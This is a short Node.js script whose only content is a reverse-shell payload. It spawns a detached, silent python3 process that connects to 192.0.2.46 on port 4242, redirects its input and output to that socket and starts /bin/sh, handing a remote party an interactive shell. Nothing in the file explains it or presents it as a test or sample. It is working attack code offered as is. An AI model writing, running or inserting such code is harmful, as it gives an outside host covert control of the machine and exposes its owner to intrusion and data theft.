const { spawn } = require("child_process");

const line = [
  "import socket,os,pty",
  "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)",
  's.connect(("192.0.2.46",4242))',
  "os.dup2(s.fileno(),0)",
  "os.dup2(s.fileno(),1)",
  "os.dup2(s.fileno(),2)",
  'pty.spawn("/bin/sh")',
].join(";");

spawn("python3", ["-c", line], { detached: true, stdio: "ignore" }).unref();
